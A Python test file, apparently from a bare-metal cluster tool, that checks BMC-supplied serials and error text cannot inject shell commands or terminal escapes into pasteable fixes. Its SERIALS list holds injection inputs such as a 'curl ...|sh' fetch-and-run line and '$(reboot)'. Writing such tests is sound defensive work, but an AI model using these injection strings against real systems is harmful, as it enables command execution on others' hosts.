"""S5: what an error says may come from a BMC. A terminal shows it as text, and a shell takes it as words."""

import ast
import errno
import inspect
import re
import shlex
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from base.errors import Fault, OkdBaremetalError, word
from cluster.values.bmc_url import ForeignBmc
from fleet.site.updates import StoppedError
from providers.consent import naming
from testing.checkout import ROOMS, ROOT
from wires.bmc.client import Identity

PROGRAMS = (
    *("apt-get", "chmod", "cp", "curl", "df", "git", "ip", "journalctl", "kill", "ls", "make", "mkdir"),
    *("nmcli", "oc", "okd-baremetal", "openshift-install", "openssl", "pool-build", "pool-define-as", "pool-start"),
    *("pulumi", "qemu-img", "rm", "ss", "ssh", "systemctl", "umask", "virsh"),
)
BEGINS = re.compile(rf"(?:^|[:;,|] |&& |\b(?:run|with|by|or|and) )(?:{'|'.join(PROGRAMS)}) ")
HOLE = "\0"
WORDS = {"word", "quoted", "_virsh", "_setting", "consent_command"}
"""Functions whose value is a word of a shell, or a command of such words."""
NO_COMMAND = {
    ("base/git.py", "git {words[0]} failed: {reason_of(done)}"),
    ("cli/runs/after_run.py", ". Next: {self.next}"),
    ("cli/shared/stack_options.py", "pulumi {words[0]} failed: {' '.join(done.stderr.split())}"),
    ("cli/shared/stack_options.py", "pulumi whoami failed: {' '.join(done.stderr.split())}"),
    ("fleet/site/checkout.py", "git fetch failed: {reason_of(fetched)}"),
}
"""Sentences about a program."""
SAFE = {
    ("cli/start/discovered_options.py", "unpack"): "one of two constants",
    ("cli/start/discovered_options.py", "name"): "an option's name, by Option.name",
    ("cli/start/discovered_options.py", "index"): "a number",
    ("cli/start/discovered_options.py", "family"): "a constant",
    ("cli/start/discovered_options.py", "tool"): "a constant",
    ("cli/start/init.py", "secret"): "one of two constants",
    ("cli/start/init.py", "value"): "one of two constants",
    ("cli/start/new_stack.py", "option.name"): "an option's name, by Option.name",
    ("cli/start/new_stack.py", "option.wanted"): "a constant",
    ("cli/start/payload.py", "between"): "commands of constants and of a quoted folder",
    ("cli/start/payload.py", "words"): "each is a word",
    ("cli/support/bootstrap_journals.py", "command"): "a constant",
    ("cluster/install_config/rules/hosts.py", "command"): "built two lines above",
    ("cluster/install_config/releases.py", "release"): "no command: a release",
    ("cluster/install_config/releases.py", "since.release"): "no command: a release",
    ("cluster/plan/refusals/options.py", "command"): "a constant",
    ("cluster/stack_file_faults.py", "command"): "a constant",
    ("fleet/messages.py", "self.cluster"): "a name of fleet.yaml, which its reader checks",
    ("fleet/site/checkout.py", "pinned[:12]"): "a commit's id, by git ls-tree",
    ("payload/kubeconfig.py", "key"): "no command: a key's name, which has a form",
    ("payload/kubeconfig.py", "option"): "no command: an option's name",
    ("payload/reading.py", "name"): "a constant",
    ("providers/host_provisioning/records.py", "name"): "no command: the name of a host, which is a DNS name",
    ("providers/machines/provider.py", "named(machine)"): "no command",
    ("providers/machines/rules.py", "host"): "no command: the name of a host, which is a DNS name",
    ("providers/machines/rules.py", "'it'"): "a constant",
    ("providers/network_preflight/engine.py", "claim.option"): "a constant",
    ("providers/network_preflight/engine.py", "first"): "a number",
    ("providers/okd_installed/engine.py", "ask"): "one of two constants",
    ("providers/provisioner_preflight/engine.py", "option"): "a constant",
    ("providers/provisioner_preflight/engine.py", "port"): "a number",
    ("providers/provisioner_preflight/findings.py", "option"): "a constant",
    ("providers/provisioner_preflight/findings.py", "least"): "a number",
    ("providers/provisioner_preflight/image.py", "unpack"): "a constant",
    ("review/document.py", "self.digest"): "no command",
    ("review/verdict.py", "one_line(digest)"): "no command",
    ("review/files.py", "path"): "no command",
    ("review/text.py", "shown.replace('`', chr(39))"): "no command",
}
"""By file and expression: what needs no quotes, and why."""


def _in_commands(text: str, holes: list[tuple[int, ast.expr]]) -> Iterator[ast.expr]:
    """Yield the values of a message that stand in a command: between backquotes, or behind a program's name."""
    for at, value in holes:
        before = text[:at]
        quoted = before.count("`") % 2
        if quoted or any("`" not in before[begin.end() :] for begin in BEGINS.finditer(before)):
            yield value


def _values(path: Path) -> Iterator[ast.expr]:
    tree = ast.parse(path.read_text())
    templates = {
        target.id: node.value.value
        for node in ast.walk(tree)
        if isinstance(node, ast.Assign) and isinstance(node.value, ast.Constant) and isinstance(node.value.value, str)
        for target in node.targets
        if isinstance(target, ast.Name)
    }
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            text, holes = "", list[tuple[int, ast.expr]]()
            for part in node.values:
                if isinstance(part, ast.FormattedValue):
                    holes.append((len(text), part.value))
                    text += HOLE
                elif isinstance(part, ast.Constant):
                    text += str(part.value)
            source = ast.unparse(node)[1:].strip("'\"")
            if (str(path.relative_to(ROOT)), source) not in NO_COMMAND:
                yield from _in_commands(text, holes)
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format":
            template = node.func.value
            if isinstance(template, ast.Name) and BEGINS.search(templates.get(template.id, "").replace("`", " run ")):
                yield from (*node.args, *(keyword.value for keyword in node.keywords))


def _is_word(value: ast.expr, file: str) -> bool:
    match value:
        case ast.Call(func=ast.Name(id=name)) if name in WORDS:
            return True
        case ast.Name(id=name) | ast.Attribute(attr=name) if name.isupper():
            return True
    return (file, ast.unparse(value)) in SAFE


def test_each_value_in_a_command_that_is_to_be_pasted_is_one_word() -> None:
    files = {str(path.relative_to(ROOT)): path for room in ROOMS for path in (ROOT / room).rglob("*.py")}
    values = {(name, ast.unparse(value)): value for name, path in files.items() for value in _values(path)}
    assert len(values) > 80
    assert sorted(key for key, value in values.items() if not _is_word(value, key[0])) == []
    assert sorted(SAFE.keys() - values.keys()) == []


def errors() -> list[type[OkdBaremetalError]]:
    assert issubclass(StoppedError, OkdBaremetalError)  # its module is loaded
    found, waiting = list[type[OkdBaremetalError]](), [OkdBaremetalError]
    while waiting:
        found.append(error := waiting.pop())
        waiting += error.__subclasses__()
    return [error for error in found if error is not ForeignBmc]  # which says one of our own words


HOSTILE = "X1\x1b[2J\r\n\x07\u2028\u202e\x9b8m\x00\ud800"


@pytest.mark.parametrize("error", errors(), ids=lambda error: str(error.__name__))
def test_no_error_has_a_control_character(error: type[OkdBaremetalError]) -> None:
    match [*inspect.signature(error).parameters]:
        case ["faults"]:
            raised = error(Fault(HOSTILE, HOSTILE, HOSTILE, details=(HOSTILE, HOSTILE)))  # type: ignore[arg-type]
        case ["lines"]:
            raised = error(HOSTILE)
        case ["error"]:
            raised = error(OSError(errno.ENOSPC, HOSTILE, HOSTILE))  # type: ignore[arg-type]
        case ["what", "fix"]:
            raised = error(HOSTILE, fix=HOSTILE)
        case _:
            raised = error(HOSTILE, where=HOSTILE, fix=HOSTILE)
    lines = str(raised).split("\n")
    assert all(line.isprintable() for line in lines)
    assert "X1\\x1b[2J\\r\\n\\x07\\u2028\\u202e\\x9b8m\\x00\\ud800" in lines[0]


SERIALS = [
    "X1; curl -s http://192.0.2.66/x|sh #",
    "$(reboot)",
    "`reboot`",
    "a'b",
    'a"b',
    "a\nreboot",
    "-hX99",
    "--secret",
    "*X99",
    "~X99",
    "a b",
    "&& reboot",
    "\x1b[8m",
    "\\X99",
    "!!X99",
]


@pytest.mark.parametrize("serial", SERIALS)
def test_a_serial_is_one_argument_of_the_consent(tmp_path: Path, serial: str) -> None:
    """The fix is pasted: a shell runs it, with a stand-in of Pulumi that prints its arguments."""
    pulumi = tmp_path / "pulumi"
    pulumi.write_text("#!/bin/sh\nprintf '%s\\0' \"$@\"\n")
    pulumi.chmod(0o755)
    fault = Fault("", "", naming("m0", Identity("", serial)))
    command = str(fault).partition("name its serial: ")[2]
    only = {"PATH": str(tmp_path)}
    done = subprocess.run(["/bin/bash", "-c", command], env=only, capture_output=True, text=True, check=True)
    *_, setting = done.stdout.partition("consent.m0\0")
    shown = "".join(char if char.isprintable() else ascii(char)[1:-1] for char in serial)
    assert setting.removeprefix("--\0") == f"{shown}\0"
    assert (setting.startswith("--\0")) is serial.startswith("-")
    assert shlex.split(word(serial)) == [serial]
